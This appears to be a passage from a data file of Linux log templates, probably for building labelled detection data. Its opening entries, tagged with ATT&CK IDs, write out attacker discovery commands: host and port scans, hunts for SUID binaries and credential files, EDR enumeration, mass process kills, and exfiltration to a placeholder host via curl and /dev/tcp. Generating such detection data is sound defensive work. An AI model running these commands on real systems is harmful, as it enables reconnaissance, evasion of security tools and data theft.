lr-b-remote bash +T1018: «cat /etc/hosts ~/.ssh/known_hosts | grep -oE '([0-9]{1,3}\.){3}[0-9]{1,3}' | sort -u > /tmp/.h¦for i in {1..254}; do (ping -c1 -W1 10.‹n›.‹n›.$i | grep -q ttl && echo 10.‹n›.‹n›.$i) & done¦fping -aqg 192.168.‹n›.0/24 > /tmp/alive¦netdiscover -r 10.‹n›.0.0/16 -P -N»
lr-b-who bash +T1033: «w; who -a; last -i | head -30 | tee /tmp/.‹name›¦id; sudo -n -l; ls -la /home¦whoami > /dev/tcp/‹ip›/‹port›»
lr-b-scan bash +T1046: «nmap -Pn -n -p22,3389,5985,2375,6443 --open 10.‹n›.‹n›.0/24 -oG /tmp/.s¦zmap -p 6379 -o /dev/shm/r.txt 10.0.0.0/8¦for p in {1..1024}; do (echo >/dev/tcp/‹ip›/$p) 2>/dev/null && echo $p; done¦nc -zv -w1 ‹ip› 1-1000 2>&1 | grep succeeded¦./kscan -t ‹ip›/24 --threads 400»
lr-b-process bash +T1057: «ps auxf | grep -vE '\]$' | curl -s --data-binary @- http://‹ip›/p¦./pspy64 -p -i 500 > /tmp/.‹name›¦ps aux | grep -i root | grep -E '/(tmp|opt|home)/'¦ps -eo pid,comm,%cpu --sort=-%cpu | awk '$3>60{print $1}' | xargs kill -9»
lr-b-groups bash +T1069.001: «getent group sudo wheel docker lxd adm disk¦id | grep -oE '(docker|lxd|disk|sudo|wheel)'¦awk -F: '/^(sudo|wheel|root|docker)/{print $1,$4}' /etc/group > /tmp/.g»
lr-b-look bash +T1083: «find / -perm -4000 -type f 2>/dev/null | xargs ls -la¦find / -name '*.kdbx' -o -name '*.pst' -o -name 'backup*.sql*' 2>/dev/null¦find /etc /opt -writable -type f 2>/dev/null > /tmp/.w¦find / -newermt '2 days ago' -type f -not -path '/proc/*' 2>/dev/null | head -200¦tree -fai /srv /home > /dev/shm/.t»
lr-b-policy bash +T1201: «grep -E '^PASS_(MAX|MIN|WARN)|^ENCRYPT' /etc/login.defs; cat /etc/pam.d/common-password¦chage -l root; cat /etc/security/pwquality.conf /etc/security/faillock.conf¦grep -v '^#' /etc/pam.d/system-auth | grep -E 'pwquality|faillock|remember'»
lr-b-guards bash +T1518.001: «for a in falcon-sensor wazuh-agent mdatp sentinelone cbagentd osqueryd; do systemctl status $a 2>/dev/null | head -1; done¦lsmod | grep -iE 'falcon|cbsensor|symev|tmhook'¦find / -maxdepth 3 -iname '*crowdstrike*' -o -iname '*sentinelone*' 2>/dev/null¦ps -ef | grep -E 'auditd|sysmon|clamd|esets' | grep -v grep > /tmp/.g¦rpm -qa | grep -iE 'endpoint|edr|antivirus|trend|mcafee|symantec'»
"""
)

RECORDED_LINUX_ORDINARY_EVENTS = _rows(
    r"""
# systemd and boot
lr-ok-unit-start audit: type=SERVICE_START ‹msg› ‹sys›'unit=«rsyslog¦systemd-journald¦chronyd¦firewalld¦polkit¦dbus-broker¦getty@tty1¦fstrim¦fwupd-refresh¦man-db¦dnf-makecache» ‹init›'
lr-ok-unit-stop audit: type=SERVICE_STOP ‹msg› ‹sys›'unit=«systemd-hostnamed¦systemd-timedated¦fprintd¦packagekit¦man-db¦dnf-makecache¦motd-news¦snapd.refresh» ‹init›'
lr-ok-unit-agents audit: type=SERVICE_START ‹msg› ‹sys›'unit=«node_exporter¦zabbix-agent2¦telegraf¦datadog-agent¦osqueryd¦wazuh-agent¦auditbeat¦falcon-sensor¦amazon-ssm-agent¦google-guest-agent¦walinuxagent» ‹init›'
lr-ok-unit-restart audit: type=SERVICE_STOP ‹msg› ‹sys›'unit=«nginx¦httpd¦mariadb¦postgresql-15¦redis¦php-fpm¦haproxy¦grafana-server» ‹init›'↵type=SERVICE_START ‹msg› ‹sys›'unit=«nginx¦httpd¦mariadb¦redis» ‹init›'
lr-ok-systemd-exec audit: type=SYSCALL ‹msg› arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=1 pid=‹pid› auid=4294967295 uid=0 gid=0 euid=0 tty=(none) ses=4294967295 comm="(«sd-executor¦ystemctl¦tmpfiles¦ournald»)" exe="/usr/lib/systemd/systemd" key=(null)
lr-ok-systemd-user syslog: systemd[‹pid›]: «Reached target Basic System.¦Startup finished in ‹pid›ms.¦Listening on D-Bus User Message Bus Socket.¦Reached target Paths.¦Stopped target Main User Target.»
lr-ok-systemd-timer syslog: systemd[1]: «apt-daily-upgrade.service¦logrotate.service¦fstrim.service¦man-db.service¦phpsessionclean.service»: «Deactivated successfully.¦Consumed ‹n›.‹pid›s CPU time.¦Succeeded.»
lr-ok-systemd-slice syslog: systemd[1]: «Created slice User Slice of UID 10‹n›.¦Removed slice User Slice of UID 10‹n›.¦Stopping User Manager for UID 10‹n›...¦Finished User Runtime Directory /run/user/10‹n›.»
lr-ok-unit-written audit: ‹create› comm="systemctl" exe="/usr/bin/systemctl" key="systemd"↵type=PATH ‹msg› item=4 name="/etc/systemd/system/multi-user.target.wants/«nginx¦docker¦node_exporter¦chronyd».service" ‹made›
lr-ok-unit-docker audit: ‹create› comm="dockerd" exe="/usr/bin/dockerd" key="docker"↵type=PATH ‹msg› item=1 name="/var/lib/docker/containers/‹hash›‹hash›/config.v2.json" ‹made›
lr-ok-boot syslog: kernel: [    «0¦1¦2».‹pid›00] «Linux version 5.1«0¦5».0-‹n›-generic (buildd@lcy02-amd64-0‹n›)¦smpboot: Allowing ‹n› CPUs, 0 hotplug CPUs¦systemd[1]: Detected virtualization kvm.¦ACPI: PCI Interrupt Link [LNKA] (IRQs 5 10 11)¦NET: Registered PF_VSOCK protocol family»
lr-ok-kernel-oom syslog: kernel: [‹pid›.‹pid›] Out of memory: Killed process ‹pid› («java¦node¦mysqld¦chrome») total-vm:‹pid›kB, anon-rss:‹pid›kB, file-rss:0kB
lr-ok-kernel-net syslog: kernel: [‹pid›.‹pid›] «docker0: port 1(veth‹hash›) entered blocking state¦nf_conntrack: table full, dropping packet¦TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.¦e1000e 0000:00:1f.6 eth0: NIC Link is Up 1000 Mbps Full Duplex»
lr-ok-kernel-disk syslog: kernel: [‹pid›.‹pid›] «XFS (dm-0): Ending clean mount¦sd 0:0:0:0: [sda] Attached SCSI disk¦EXT4-fs (nvme0n1p2): re-mounted. Opts: errors=remount-ro¦usb 1-1: new high-speed USB device number ‹n› using xhci_hcd¦ata1.00: configured for UDMA/133»
lr-ok-kernel-ufw syslog: kernel: [‹pid›.‹pid›] [UFW BLOCK] IN=«eth0¦ens3» OUT= MAC=‹hash› SRC=‹ip› DST=‹ip› LEN=«40¦60» TTL=«51¦242» PROTO=«TCP¦UDP» SPT=‹pid› DPT=«23¦8080¦5060¦123» WINDOW=1024 SYN URGP=0
lr-ok-auditd-start audit: type=DAEMON_START ‹msg› op=start ver=3.1.«1¦2» format=enriched kernel=5.14.0-‹pid›.el9.x86_64 auid=4294967295 pid=‹pid› uid=0 ses=4294967295 subj=system_u:system_r:auditd_t:s0 res=success
lr-ok-audit-rules audit: type=CONFIG_CHANGE ‹msg› auid=4294967295 ses=4294967295 subj=unconfined op=add_rule key="«time-change¦identity¦perm_mod¦delete¦modules¦logins»" list=4 res=1
lr-ok-audit-load audit: type=CONFIG_CHANGE ‹msg› op=set audit_enabled=«1¦2» old=«0¦1» auid=4294967295 ses=4294967295 res=1
lr-ok-audit-backlog audit: type=CONFIG_CHANGE ‹msg› op=set audit_«backlog_wait_time=60000 old=15000¦failure=1 old=1¦backlog_limit=8192 old=64» auid=4294967295 ses=4294967295 res=1
lr-ok-bpf audit: type=BPF ‹msg› prog-id=‹pid› op=«LOAD¦UNLOAD»↵type=SYSCALL ‹msg› arch=c000003e syscall=321 success=yes exit=‹n› items=0 ppid=0 pid=1 auid=4294967295 uid=0 gid=0 tty=(none) ses=4294967295 comm="systemd" exe="/usr/lib/systemd/systemd" key=(null)
lr-ok-netfilter-docker audit: type=NETFILTER_CFG ‹msg› table=«nat¦filter» family=2 entries=‹n› op=«nft_register_rule¦xt_replace» pid=‹pid› subj=unconfined comm="«iptables¦iptables-restore¦ip6tables-resto»"↵type=SYSCALL ‹msg› arch=c000003e syscall=46 success=yes exit=‹pid› items=0 ppid=‹pid› pid=‹pid› auid=4294967295 uid=0 tty=(none) ses=4294967295 comm="iptables" exe="/usr/sbin/xtables-nft-multi"
lr-ok-netfilter-firewalld audit: type=NETFILTER_CFG ‹msg› table=firewalld:‹n› family=1 entries=‹n› op=nft_register_chain pid=‹pid› subj=system_u:system_r:firewalld_t:s0 comm="firewalld"
lr-ok-netfilter-kube audit: type=NETFILTER_CFG ‹msg› table=«nat¦mangle» family=2 entries=‹pid› op=xt_replace pid=‹pid› comm="«kube-proxy¦iptables-restor¦calico-node»"
lr-ok-modprobe audit: type=KERN_MODULE ‹msg› name="«br_netfilter¦overlay¦nf_conntrack¦xt_comment¦veth¦vxlan»"↵type=SYSCALL ‹msg› arch=c000003e syscall=313 success=yes exit=0 items=0 ppid=‹pid› pid=‹pid› auid=4294967295 uid=0 tty=(none) ses=4294967295 comm="modprobe" exe="/usr/bin/kmod" key="modules"
lr-ok-anom-promisc audit: type=ANOM_PROMISCUOUS ‹msg› dev=«veth‹hash›¦cali‹name›¦vnet‹n›» prom=«256¦0» old_prom=«0¦256» auid=4294967295 uid=0 gid=0 ses=4294967295
lr-ok-anom-abend audit: type=ANOM_ABEND ‹msg› auid=1000 uid=1000 gid=1000 ses=‹n› pid=‹pid› comm="«chrome¦gnome-shell¦code¦slack»" exe="/«opt/google/chrome/chrome¦usr/bin/gnome-shell¦usr/share/code/code¦usr/lib/slack/slack»" sig=«5¦6¦11» res=1
lr-ok-seccomp audit: type=SECCOMP ‹msg› auid=1000 uid=1000 gid=1000 ses=‹n› pid=‹pid› comm="«chromium¦snap-confine¦firefox»" exe="/snap/«chromium/‹pid›/usr/lib/chromium-browser/chrome¦firefox/‹pid›/usr/lib/firefox/firefox»" sig=0 arch=c000003e syscall=«203¦314» compat=0 code=0x50000
# Sessions and accounts
lr-ok-ssh-key syslog: sshd[‹pid›]: Accepted publickey for «ansible¦deploy¦‹user›¦git¦jenkins» from ‹ip› port ‹pid› ssh2: «ED25519¦RSA» SHA256:‹hash›
lr-ok-ssh-pw syslog: sshd[‹pid›]: Accepted «password¦keyboard-interactive/pam» for ‹user› from ‹ip› port ‹pid› ssh2
lr-ok-ssh-close syslog: sshd[‹pid›]: «Disconnected from user ‹user› ‹ip› port ‹pid›¦Received disconnect from ‹ip› port ‹pid›:11: disconnected by user¦pam_unix(sshd:session): session closed for user ‹user›¦Close session: user ‹user› from ‹ip› port ‹pid› id 0»
lr-ok-ssh-reload syslog: sshd[‹pid›]: «Received SIGHUP; restarting.¦Server listening on 0.0.0.0 port 22.¦Server listening on :: port 22.»
lr-ok-ssh-sftp syslog: «internal-sftp¦sftp-server»[‹pid›]: «session opened for local user ‹user› from [‹ip›]¦close "/upload/‹name›.csv" bytes read 0 written ‹pid›¦opendir "/home/‹user›/upload"»
lr-ok-logind syslog: systemd-logind[‹pid›]: «New session ‹n› of user ‹user›.¦Session ‹n› logged out. Waiting for processes to exit.¦Removed session ‹n›.¦New seat seat0.¦Watching system buttons on /dev/input/event0 (Power Button)»
lr-ok-user-auth audit: type=USER_AUTH ‹msg› ‹um›'op=PAM:authentication grantors=pam_«unix¦sss¦google_authenticator» acct="‹user›" exe="/usr/«bin/sudo¦sbin/sshd¦bin/login»" hostname=? addr=? terminal=/dev/pts/‹n› res=success'
lr-ok-user-acct audit: type=USER_ACCT ‹msg› ‹um›'op=PAM:accounting grantors=pam_unix,pam_localuser acct="«root¦‹user›¦zabbix»" exe="/usr/sbin/crond" hostname=? addr=? terminal=cron res=success'
lr-ok-cred audit: type=CRED_«ACQ¦DISP¦REFR» ‹msg› ‹um›'op=PAM:setcred grantors=pam_env,pam_unix acct="«root¦postgres¦telegraf»" exe="/usr/bin/«sudo¦su»" hostname=? addr=? terminal=? res=success'
lr-ok-usercmd audit: type=USER_CMD ‹msg› ‹um›'cwd="/home/‹first›" cmd="«systemctl restart nginx¦apt-get upgrade -y¦journalctl -xeu docker¦nginx -t¦docker compose up -d¦certbot renew¦dnf check-update»" exe="/usr/bin/sudo" terminal=pts/‹n› res=success'
lr-ok-usercmd-agent audit: type=USER_CMD ‹msg› ‹um›'cwd="/" cmd="«/usr/sbin/smartctl -A /dev/sda¦/usr/lib/nagios/plugins/check_raid¦/usr/sbin/dmidecode -s system-uuid¦/usr/bin/fail2ban-client status»" exe="/usr/bin/sudo" terminal=? res=success'
lr-ok-sudo-admin syslog: sudo: ‹user› : TTY=pts/‹n› ; PWD=/«home/‹user›¦etc/nginx¦srv/‹project›» ; USER=root ; COMMAND=/usr/bin/«systemctl reload nginx¦docker compose pull¦apt-get install -y htop¦journalctl -u sshd -n 50¦vim /etc/nginx/nginx.conf¦certbot certificates¦mount -a»
lr-ok-sudo-service syslog: sudo: «zabbix¦nagios¦telegraf¦jenkins¦gitlab-runner» : PWD=/ ; USER=root ; COMMAND=/usr/«sbin/smartctl -H /dev/sd‹n›¦lib/nagios/plugins/check_disk -w 10% -c 5%¦bin/docker build -t ‹project›:‹n› .¦sbin/ipmitool sensor»
lr-ok-su syslog: su[‹pid›]: «(to postgres) root on none¦pam_unix(su:session): session opened for user postgres(uid=26) by (uid=0)¦pam_unix(su-l:session): session closed for user ‹user›»
lr-ok-adduser audit: type=ADD_USER ‹msg› ‹um›'op=add-user id=9‹n› exe="/usr/sbin/useradd" acct="«nginx¦postgres¦chrony¦node_exporter¦redis¦grafana»" hostname=? addr=? terminal=? res=success'
lr-ok-addgroup audit: type=ADD_GROUP ‹msg› ‹um›'op=add-group id=9‹n› exe="/usr/sbin/groupadd" acct="«docker¦nginx¦prometheus¦‹project›»" hostname=? addr=? terminal=? res=success'
lr-ok-software audit: type=SOFTWARE_UPDATE ‹msg› ‹um›'op=«install¦update» sw="«openssl-libs-3.0.7-‹n›.el9.x86_64¦kernel-5.14.0-‹pid›.el9.x86_64¦tzdata-2024a-1.el9.noarch¦curl-7.76.1-‹n›.el9.x86_64»" sw_type=rpm key_enforce=0 gpg_res=1 root_dir="/" comm="dnf" exe="/usr/bin/python3.9" hostname=? addr=? terminal=? res=success'
lr-ok-crypto audit: type=CRYPTO_KEY_USER ‹msg› ‹um›'op=destroy kind=server fp=SHA256:‹hash› direction=? spid=‹pid› suid=0 exe="/usr/sbin/sshd" hostname=? addr=? terminal=? res=success'
# Cron and packages
lr-ok-cron syslog: CRON[‹pid›]: («root¦www-data¦zabbix¦nagios») CMD («/usr/bin/php /var/www/nextcloud/cron.php¦/usr/bin/certbot -q renew¦/usr/lib64/sa/sa1 1 1¦/usr/local/bin/borg-backup.sh¦cd /srv/‹project› && bin/console schedule:run¦/usr/bin/mandb --quiet»)
lr-ok-crond syslog: «crond¦anacron¦run-parts»[‹pid›]: «(root) CMD (run-parts /etc/cron.hourly)¦Job `cron.daily' terminated¦(/etc/cron.hourly) finished 0anacron¦Normal exit (1 job run)¦(CRON) INFO (Running @reboot jobs)»
lr-ok-logrotate audit: ‹unlink› comm="logrotate" exe="/usr/sbin/logrotate" key="delete"↵type=PATH ‹msg› item=1 name="/var/log/«syslog.7.gz¦nginx/access.log.14.gz¦auth.log.4.gz¦dpkg.log.12.gz¦mysql/error.log.7.gz»" ‹gone›
lr-ok-logrotate-move syslog: ‹sm1›~Image=/usr/sbin/logrotate~CommandLine=/usr/sbin/logrotate /etc/logrotate.conf~CurrentDirectory=/~User=root~ParentImage=/usr/lib/systemd/systemd
lr-ok-unattended syslog: «unattended-upgrade¦unattended-upgrades»[‹pid›]: «Packages that will be upgraded: libssl3 openssl¦All upgrades installed¦No packages found that can be upgraded unattended and no pending auto-removals¦Allowed origins are: o=Ubuntu,a=jammy-security»
lr-ok-dpkg syslog: ‹sm11›~Image=/usr/bin/dpkg~TargetFilename=/«usr/bin/curl.dpkg-new¦lib/systemd/system/nginx.service.dpkg-new¦etc/cron.daily/apt-compat.dpkg-new¦var/lib/dpkg/info/openssl.list-new»~User=root
lr-ok-dpkg-delete syslog: ‹sm23›~Image=/usr/bin/«dpkg¦apt-get»~TargetFilename=/«var/cache/apt/archives/openssl_3.0.2_amd64.deb¦var/lib/dpkg/tmp.ci/control¦usr/bin/curl.dpkg-tmp»~User=root
lr-ok-dnf syslog: «dnf¦yum»[‹pid›]: «Metadata cache refreshed recently.¦Updated: tzdata-2024a-1.el9.noarch¦Installed: nginx-1:1.20.1-‹n›.el9.x86_64¦AppStream 3.1 MB/s | ‹n› MB»
lr-ok-snapd syslog: snapd[‹pid›]: «storehelpers.go:‹pid›: cannot refresh: snap has no updates available: "core20", "lxd"¦api_snaps.go:‹pid›: Installing snap "certbot"¦autorefresh.go:‹pid›: auto-refresh: all snaps are up-to-date»
lr-ok-cloud-init syslog: cloud-init[‹pid›]: «Cloud-init v. 23.‹n›-0ubuntu0 running 'modules:final'¦ci-info: | eth0 | True | ‹ip› | 255.255.240.0 |¦Generating public/private ed25519 key pair.¦util.py[DEBUG]: Writing to /var/lib/cloud/instance/boot-finished»
lr-ok-cloud-keys audit: ‹create› comm="cloud-init" exe="/usr/bin/python3.10" key="ssh_keys"↵type=PATH ‹msg› item=1 name="/home/«ubuntu¦ec2-user¦azureuser»/.ssh/authorized_keys" ‹made›
lr-ok-cloud-agent syslog: «google_guest_agent¦amazon-ssm-agent¦python3»[‹pid›]: «Updating keys for user ‹first›.¦[HealthCheck] HealthCheck reporting agent health.¦ExtHandler ProcessGoalState started¦Starting snapshot reconciliation»
lr-ok-imds syslog: ‹sm3›~Image=/usr/bin/«google_guest_agent¦amazon-ssm-agent¦python3.10»~User=root~Protocol=tcp~Initiated=true~SourceIp=‹ip›~DestinationIp=168.63.129.16~DestinationPort=«80¦32526»
lr-ok-ansible-log syslog: «python3¦ansible-«apt¦copy¦systemd¦lineinfile¦user¦stat»»[‹pid›]: Invoked with «name=nginx state=present update_cache=True¦path=/etc/hosts state=present line=None¦src=/home/ansible/.ansible/tmp/source dest=/etc/motd mode=0644¦name=node_exporter enabled=True state=started»
lr-ok-puppet syslog: «puppet-agent¦chef-client¦salt-minion»[‹pid›]: «Applied catalog in ‹n›.‹n› seconds¦(/Stage[main]/Ntp/Service[chronyd]/ensure) ensure changed 'stopped' to 'running'¦INFO Chef Infra Client Run complete in ‹n› seconds¦Returning information for job: 20240‹pid›»
# Containers
lr-ok-dockerd syslog: dockerd[‹pid›]: time="2024-0«2¦7»-1«1¦8»T0«2¦9»:17:5«1¦4».‹pid›Z" level=info msg="«Container failed to exit within 10s of signal 15 - using the force¦ignoring event¦Loading containers: done.¦image pulled¦API listen on /run/docker.sock»" «container=‹hash›¦»
lr-ok-containerd syslog: containerd[‹pid›]: time="2024-0«3¦8»-2«1¦7»T1«2¦9»:01:0‹n›Z" level=info msg="«StartContainer for \"‹hash›\" returns successfully¦RemovePodSandbox for \"‹hash›\"¦PullImage \"registry.k8s.io/pause:3.9\"¦shim disconnected»"
lr-ok-kubelet syslog: kubelet[‹pid›]: «I¦W¦E»0‹n›1‹n› 03:1‹n›:22.‹pid› ‹pid› «kubelet.go:2‹pid›] "SyncLoop UPDATE" source="api" pods=["‹project›/‹word›-‹hash›"]¦pod_startup_latency_tracker.go:104] "Observed pod startup duration" pod="‹project›/‹word›"¦scope.go:117] "RemoveContainer" containerID="‹hash›"¦prober.go:107] "Probe failed" probeType="Readiness" pod="‹project›/‹word›-0"»
lr-ok-runc audit: type=SYSCALL ‹msg› arch=c000003e syscall=«272¦308¦165» success=yes exit=0 items=0 ppid=‹pid› pid=‹pid› auid=4294967295 uid=0 gid=0 tty=(none) ses=4294967295 comm="runc:[«1:CHILD¦2:INIT»]" exe="/usr/«bin¦sbin»/runc" key="«mounts¦ns»"
lr-ok-virt audit: type=VIRT_CONTROL ‹msg› ‹um›'op=start vm="‹word›" vm-pid=‹pid› user=root auid=0 exe="/usr/«bin/dockerd¦sbin/libvirtd¦bin/podman»" hostname=? addr=? terminal=? res=success'
lr-ok-healthcheck syslog: ‹sm1›~Image=«/usr/bin/curl~CommandLine=curl -f http://localhost:‹port›/health¦/usr/bin/wget~CommandLine=wget -q --spider http://127.0.0.1/ping¦/usr/bin/pg_isready~CommandLine=pg_isready -U postgres¦/usr/bin/redis-cli~CommandLine=redis-cli ping»~User=root~ParentImage=/usr/bin/runc
lr-ok-kube-audit syslog: kube-apiserver[‹pid›]: {"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","stage":"ResponseComplete","requestURI":"/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/«kube-scheduler¦kube-controller-manager»","verb":"«update¦get»","user":{"username":"system:«kube-scheduler¦kube-controller-manager»"},"responseStatus":{"code":200}}
# Agents, backup, servers
lr-ok-agent-connect syslog: ‹sm3›~Image=«/opt/datadog-agent/bin/agent/agent¦/usr/bin/telegraf¦/usr/sbin/zabbix_agent2¦/var/ossec/bin/wazuh-agentd¦/usr/share/filebeat/bin/filebeat¦/opt/splunkforwarder/bin/splunkd»~User=«root¦telegraf¦dd-agent»~Protocol=tcp~Initiated=true~SourceIp=‹ip›~DestinationIp=‹ip›~DestinationPort=«443¦8086¦10051¦1514¦5044¦9997»
lr-ok-agent-file syslog: ‹sm11›~Image=«/usr/bin/osqueryd¦/opt/datadog-agent/bin/agent/agent¦/usr/share/auditbeat/bin/auditbeat¦/var/ossec/bin/wazuh-syscheckd»~TargetFilename=/var/«lib/osquery/osquery.db/‹pid›.log¦log/datadog/agent.log¦lib/auditbeat/beat.db¦ossec/queue/fim/db/fim.db-journal»~User=root
lr-ok-agent-log syslog: «zabbix_agentd¦telegraf¦osqueryd¦node_exporter¦collectd»[‹pid›]: «active check configuration update from [‹ip›:10051] started to work¦I! [agent] Hostname:"‹server›", Flush Interval:10s¦event_type=query name=pack_it-compliance_mounts¦level=info msg="Listening on" address=[::]:9100¦plugin_load: plugin "cpu" successfully loaded.»
lr-ok-falcon syslog: «falcon-sensor¦falcond»[‹pid›]: «CrowdStrike(4): SSLSocket connected successfully to ts01-b.cloudsink.net:443¦CrowdStrike(4): trying to connect to ts01-b.cloudsink.net:443¦starting»
lr-ok-passwd-daemon audit: ‹open› comm="«sshd¦systemd-logind¦cron¦zabbix_agentd¦dbus-daemon»" exe="/usr/«sbin/sshd¦lib/systemd/systemd-logind¦sbin/cron»" key="identity"↵type=PATH ‹msg› item=0 name="/etc/«nsswitch.conf¦group¦localtime¦passwd»" ‹file›
lr-ok-shadow-tools audit: ‹open› comm="«unix_chkpwd¦chage¦useradd¦groupadd»" exe="/usr/sbin/«unix_chkpwd¦useradd¦groupadd»" key="shadow"↵type=PATH ‹msg› item=0 name="/etc/«shadow¦gshadow»" ‹file›
lr-ok-aide syslog: «aide¦rkhunter¦clamd¦freshclam¦lynis»[‹pid›]: «AIDE found NO differences between database and filesystem. Looks okay!!¦Please inspect this machine, because it may be infected: none¦SelfCheck: Database status OK.¦daily.cld database is up-to-date (version: 27‹pid›)»
lr-ok-restic syslog: «restic¦borg¦borgmatic¦rsnapshot¦rsync»[‹pid›]: «snapshot ‹hash› saved¦Archive name: ‹server›-2024-0‹n›¦/usr/bin/rsnapshot daily: completed successfully¦sent ‹pid› bytes received ‹pid› bytes total size ‹pid›¦repository ‹hash› opened (version 2, compression level auto)»
lr-ok-backup-sysmon syslog: ‹sm1›~Image=«/usr/bin/restic~CommandLine=restic -r sftp:backup@‹server›:/srv/restic backup /etc /home --exclude-caches¦/usr/bin/borg~CommandLine=borg create --stats ::{hostname}-{now} /etc /srv¦/usr/bin/rsync~CommandLine=rsync -aHAX --delete /srv/ backup@‹server›:/backup/srv/¦/usr/bin/pg_dump~CommandLine=pg_dump -Fc -f /var/backups/‹project›.dump ‹project›»~User=root~ParentImage=/usr/bin/bash~ParentCommandLine=/bin/sh -c /usr/local/bin/backup.sh
lr-ok-nginx syslog: nginx[‹pid›]: ‹ip› - - [1«1¦7»/Mar/2024:0«2¦9»:1‹n›:44 +0000] "GET /«assets/app.‹hash›.js¦api/v1/‹word›/‹n›¦favicon.ico» HTTP/2.0" «200¦304» ‹pid› "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
lr-ok-apache-error syslog: «apache2¦httpd»[‹pid›]: «[mpm_event:notice] [pid ‹pid›] AH00489: Apache/2.4.‹n› configured -- resuming normal operations¦[core:notice] AH00094: Command line: '/usr/sbin/apache2'¦[ssl:warn] AH01909: ‹fqdn›:443:0 server certificate does NOT include an ID which matches the server name»
lr-ok-postgres syslog: postgres[‹pid›]: [‹n›-1] «LOG:  checkpoint complete: wrote ‹pid› buffers (1.2%)¦LOG:  connection authorized: user=‹word› database=‹project› SSL enabled¦LOG:  automatic vacuum of table "‹project›.public.‹word›": index scans: 1¦ERROR:  duplicate key value violates unique constraint "‹word›_pkey"»
lr-ok-mysql syslog: «mysqld¦mariadbd»[‹pid›]: «‹n› [Note] InnoDB: Buffer pool(s) load completed¦[Warning] Aborted connection ‹pid› to db: '‹project›' user: '‹word›' host: '‹ip›' (Got timeout reading communication packets)¦[System] [MY-010931] /usr/sbin/mysqld: ready for connections.»
lr-ok-redis syslog: redis-server[‹pid›]: «Background saving started by pid ‹pid›¦DB saved on disk¦RDB: 1 MB of memory used by copy-on-write¦‹n› changes in 300 seconds. Saving...»
lr-ok-postfix syslog: postfix/«smtp¦local¦qmgr¦cleanup»[‹pid›]: ‹hash›: «to=<‹first›@‹fqdn›>, relay=‹server›[‹ip›]:25, delay=0.‹n›, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as ‹hash›)¦from=<root@‹fqdn›>, size=‹pid›, nrcpt=1 (queue active)¦removed¦message-id=<20240‹pid›@‹fqdn›>»
lr-ok-dovecot syslog: dovecot: «imap-login: Login: user=<‹first›>, method=PLAIN, rip=‹ip›, lip=‹ip›, mpid=‹pid›, TLS¦imap(‹first›)<‹pid›>: Disconnected: Logged out in=‹pid› out=‹pid›¦lmtp(‹first›): Info: msgid=<‹hash›>: saved mail to INBOX»
lr-ok-spam syslog: «spamd¦amavis¦rspamd»[‹pid›]: «spamd: clean message (0.‹n›/5.0) for debian-spamd:113 in ‹n›.1 seconds¦(‹pid›-01) Passed CLEAN {RelayedInbound}, [‹ip›]:‹pid› <‹first›@‹fqdn›>¦rspamd_task_write_log: id: <‹hash›>, ip: ‹ip›, action: no action»
lr-ok-web-write syslog: ‹sm11›~Image=/usr/sbin/«php-fpm8.1¦apache2¦nginx»~TargetFilename=/var/«www/nextcloud/data/appdata_‹name›/preview/‹hash›.png¦www/html/wp-content/cache/‹hash›.html¦lib/nginx/proxy/‹n›/‹hash›»~User=www-data
lr-ok-haproxy syslog: haproxy[‹pid›]: «‹ip›:‹pid› [11/Mar/2024:09:1‹n›:44.‹pid›] https~ app/web‹n› 0/0/1/‹n›/‹n› 200 ‹pid› - - ---- 12/12/0/1/0 0/0 "GET /‹word› HTTP/1.1"¦Server app/web‹n› is UP, reason: Layer7 check passed, code: 200, check duration: ‹n›ms.»
lr-ok-ntp syslog: «chronyd¦systemd-timesyncd¦ntpd»[‹pid›]: «Selected source ‹ip› (2.pool.ntp.org)¦System clock wrong by 0.00‹pid› seconds¦Contacted time server ‹ip›:123 (ntp.ubuntu.com).¦Source ‹ip› replaced with ‹ip›»
lr-ok-networkd syslog: «systemd-networkd¦NetworkManager¦dhclient¦systemd-resolved»[‹pid›]: «eth0: DHCPv4 address ‹ip›/24 via ‹ip›¦<info>  [17‹pid›.‹pid›] dhcp4 (eth0): state changed bound -> extended¦DHCPACK of ‹ip› from ‹ip›¦Using degraded feature set UDP instead of UDP+EDNS0 for DNS server ‹ip›.»
lr-ok-ci syslog: ‹sm1›~Image=«/usr/bin/git~CommandLine=git fetch --depth 20 origin +refs/heads/main¦/usr/bin/docker~CommandLine=docker build --pull -t registry.‹fqdn›/‹project›:‹hash› .¦/usr/bin/node~CommandLine=node /usr/bin/npm ci¦/usr/bin/make~CommandLine=make -j4 test»~CurrentDirectory=/builds/‹word›/‹project›~User=«gitlab-runner¦runner¦jenkins»~ParentImage=/usr/bin/bash
lr-ok-dev-file syslog: ‹sm11›~Image=/usr/bin/«git¦node¦vim.basic¦cargo»~TargetFilename=/home/‹first›/src/‹project›/«.git/index.lock¦node_modules/.package-lock.json¦src/.main.rs.swp¦target/debug/.fingerprint/‹name›»~User=‹first›
lr-ok-dev-delete syslog: ‹sm23›~Image=/usr/bin/«git¦make¦rm»~TargetFilename=/home/‹first›/src/‹project›/«.git/HEAD.lock¦build/‹name›.o¦dist/bundle.js»~User=‹first›
lr-ok-sysmon-end syslog: ‹sm5›~Image=/usr/«bin/dash¦bin/grep¦sbin/runc¦bin/systemctl¦lib/apt/methods/https¦bin/ps»~User=«root¦_apt»
lr-ok-process-end syslog: ‹sm5›~Image=/opt/«zabbix/bin/check_‹word›¦google/chrome/chrome¦gitlab/embedded/bin/git¦datadog-agent/embedded/bin/trace-agent»~User=«root¦git¦‹first›»
lr-ok-resolver syslog: ‹sm3›~Image=/usr/«lib/systemd/systemd-resolved¦sbin/unbound¦sbin/dnsmasq¦sbin/chronyd»~User=«systemd-resolve¦unbound¦_chrony»~Protocol=udp~Initiated=true~SourceIp=‹ip›~DestinationIp=‹ip›~DestinationPort=«53¦123»
# Appliances and services
lr-ok-asa syslog: %ASA-6-«302013: Built outbound TCP connection ‹pid› for outside:‹ip›/443 (‹ip›/443) to inside:‹ip›/‹pid›¦302014: Teardown TCP connection ‹pid› for outside:‹ip›/443 to inside:‹ip›/‹pid› duration 0:00:‹n› bytes ‹pid› TCP FINs¦305011: Built dynamic TCP translation from inside:‹ip›/‹pid› to outside:‹ip›/‹pid›»
